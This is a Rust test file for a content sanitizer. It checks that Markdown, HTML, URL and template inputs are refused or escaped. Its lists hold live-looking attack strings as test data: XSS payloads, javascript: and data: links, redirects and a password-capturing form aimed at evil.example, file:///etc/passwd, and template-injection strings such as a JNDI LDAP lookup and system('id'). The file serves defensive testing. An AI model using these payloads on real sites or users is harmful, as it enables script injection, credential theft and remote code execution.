//! What people have tried to put into pages, letters and terminals through content.

use super::*;

/// Attacks that are Markdown or HTML.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <img src=x onerror=alert(1)> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "</textarea></title></style><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<x onclick=alert(1)>click",
    "> <script>alert(1)</script>",
    "- <b onmouseover=alert(1)>x</b>",
];

/// Links that lead to something else than a page.
const LINKS: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#x6A;avascript:alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "blob:https://shop.example/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https://",
    "https://shop.example@evil.example/",
    "https://user:pass@evil.example/",
    "http://evil.example/",
    "ftp://evil.example/",
    "evil.example",
    "../up",
    "#top",
    "?a=b",
    "https://shop.example/\u{202e}gpj.exe",
    "https://shop.example/{{secret}}",
    "https://shop.example/${secret}",
    "https://shop.example/\"onmouseover=alert(1)",
    "https://shop.example/<script>",
];

#[test]
fn refuses_html_in_markdown_and_shows_it_as_text_where_it_is_text() {
    for attack in MARKUP {
        for format in [HTML, TEXT] {
            let refused = shown(SlotType::Markdown, format, attack).unwrap_err();
            assert!(refused.starts_with("has the HTML `<"), "{attack}: {refused}");
        }
        let escaped = shown(SlotType::Text, HTML, attack).unwrap();
        let without_breaks = escaped.replace("<br />", "");
        assert!(!without_breaks.contains(['<', '>']), "{escaped}");
        assert_eq!(shown(SlotType::Text, TEXT, attack).unwrap(), *attack);
    }
}

#[test]
fn shows_what_only_a_browser_would_take_for_html_as_text() {
    for attack in [
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)//",
        "< script>",
        "<<b>",
        "a < b > c",
    ] {
        if let Ok(said) = shown(SlotType::Markdown, HTML, attack) {
            assert!(!said.contains('<'), "{attack}: {said}");
        }
    }
    assert_eq!(
        markdown(HTML, "<svg/onload=alert(1)>"),
        "&lt;svg/onload=alert(1)&gt;"
    );
}

#[test]
fn refuses_links_that_lead_elsewhere_than_they_say() {
    for attack in LINKS {
        let decoded = if attack.contains('<') {
            (*attack).to_owned()
        } else {
            visible(attack)
        };
        for url in [*attack, decoded.as_str()] {
            for format in [URL, TEXT, HTML] {
                let refused = shown(SlotType::Url, format, url);
                assert!(refused.is_err(), "{url}: {refused:?}");
            }
        }
        for text in [
            format!("[x](<{attack}>)"),
            format!("[x][y]\n\n[y]: <{attack}>"),
            format!("![x](<{attack}>)"),
        ] {
            for format in [HTML, TEXT] {
                let said = shown(SlotType::Markdown, format, &text);
                // What is no link in Markdown is text, and a URL that its writer has made one may be safe.
                let is_safe = said
                    .as_ref()
                    .is_ok_and(|said| !said.contains("href") && !said.contains("src="));
                assert!(said.is_err() || is_safe, "{text}: {said:?}");
            }
        }
    }
    assert!(
        shown(SlotType::Markdown, HTML, "<javascript:alert(1)>")
            .unwrap_err()
            .contains("the scheme `javascript`")
    );
    assert!(
        shown(SlotType::Markdown, HTML, "<help@shop.example>")
            .unwrap_err()
            .contains("the scheme `mailto`")
    );
}

#[test]
fn takes_schemes_that_are_listed() {
    let links = json!({"schemes": ["mailto", "tel", "shop-app", "http"]});
    for url in [
        "mailto:help@shop.example",
        "tel:+49-30-1234",
        "shop-app:cart/7",
        "SHOP-APP://cart",
        "http://shop.example/",
        "HTTPS://Shop.Example/",
    ] {
        assert_eq!(link(&links, url).unwrap(), url);
    }
    assert!(link(&links, "javascript:alert(1)").is_err());
    let body = shown_at(
        &touchpoint(&links),
        None,
        (SlotType::Markdown, HTML),
        "<help@shop.example>",
    );
    assert_eq!(
        body.unwrap().text,
        "<a href=\"mailto:help@shop.example\">help@shop.example</a>"
    );
}

#[test]
fn refuses_what_nobody_sees() {
    for character in [
        '\0', '\u{7}', '\u{8}', '\u{b}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9b}', '\u{2028}', '\u{2029}',
        '\u{feff}', '\u{fff9}', '\u{fffe}', '\u{fdd0}', '\r', '\u{202a}', '\u{202d}', '\u{202e}', '\u{2066}',
        '\u{2067}', '\u{2069}',
    ] {
        let text = format!("pay{character}pal");
        for (type_, format) in [
            (SlotType::Text, TEXT),
            (SlotType::Text, HTML),
            (SlotType::Markdown, TEXT),
            (SlotType::Markdown, HTML),
        ] {
            let said = shown(type_, format, &text);
            assert!(
                said.is_err(),
                "U+{:04X} as {type_:?} for {format:?}",
                u32::from(character)
            );
        }
        let url = format!("https://shop.example/{character}a");
        assert!(
            shown(SlotType::Url, URL, &url).is_err(),
            "U+{:04X}",
            u32::from(character)
        );
    }
    for reference in [
        "&#8238;",
        "&#x202E;",
        "&#27;",
        "&#x2067;",
        "`&#8238;`\u{202e}",
        "[a](/b \"&#8238;\")",
    ] {
        for format in [HTML, TEXT] {
            assert!(
                shown(SlotType::Markdown, format, reference).is_err(),
                "{reference}"
            );
        }
    }
    let kept = "a\tb\u{200d}\u{200e}\u{2067}שלום\u{2069}\u{ad}👩\u{200d}👧";
    assert_eq!(shown(SlotType::Text, TEXT, kept).unwrap(), kept);
    let lines = "one\r\ntwo\nthree";
    assert_eq!(shown(SlotType::Text, TEXT, lines).unwrap(), lines);
}

#[test]
fn leaves_template_engines_nothing_to_run_in_addresses() {
    for (attack, marker) in [
        ("https://shop.example/?u=%%Email%%", "%%"),
        ("/a?x=*|EMAIL|*", "*|"),
        ("/a?x=[[y]]", "[["),
    ] {
        for format in [URL, TEXT] {
            let refused = shown(SlotType::Url, format, attack).unwrap_err();
            assert!(
                refused.starts_with(&format!("has the template marker `{marker}`")),
                "{refused}"
            );
        }
    }
}

#[test]
fn leaves_template_engines_nothing_to_run() {
    for (attack, marker) in [
        ("{{constructor.constructor('alert(1)')()}}", "{{"),
        ("{% include '/etc/passwd' %}", "{%"),
        ("{# note #}", "{#"),
        ("${7*7}", "${"),
        ("${jndi:ldap://evil.example/a}", "${"),
        ("#{7*7}", "#{"),
        ("<%= system('id') %>", "<%"),
        ("%%[Output(1)]%%", "%%"),
        ("[[${T(java.lang.Runtime)}]]", "${"),
        ("[[x]]", "[["),
        ("*|MERGE|*", "*|"),
    ] {
        let refused = shown(SlotType::Text, TEXT, attack).unwrap_err();
        assert!(
            refused.starts_with(&format!("has the template marker `{marker}`")),
            "{refused}"
        );
        let said = shown(SlotType::Text, HTML, attack).unwrap();
        for marker in ["{", "}", "<%", "%%", "[[", "*|"] {
            assert!(!said.contains(marker), "{attack}: {said}");
        }
        assert_eq!(visible(&said), attack, "people read what was written");
    }
    let in_pieces = shown(SlotType::Markdown, TEXT, "{*{x*}}").unwrap_err();
    assert!(in_pieces.contains("`{{`"), "{in_pieces}");
    assert_eq!(
        shown(SlotType::Markdown, HTML, "`{{x}}` 100 % {a}").unwrap(),
        "<code>&#123;&#123;x&#125;&#125;</code> 100 % &#123;a&#125;"
    );
}

#[test]
fn quotes_what_it_refuses_on_one_short_line() {
    let long = format!("<b title='\n`{}'>", "x".repeat(99));
    let refused = shown(SlotType::Markdown, HTML, &long).unwrap_err();
    assert!(
        !refused.contains('\n') && refused.chars().count() < 140,
        "{refused}"
    );
}
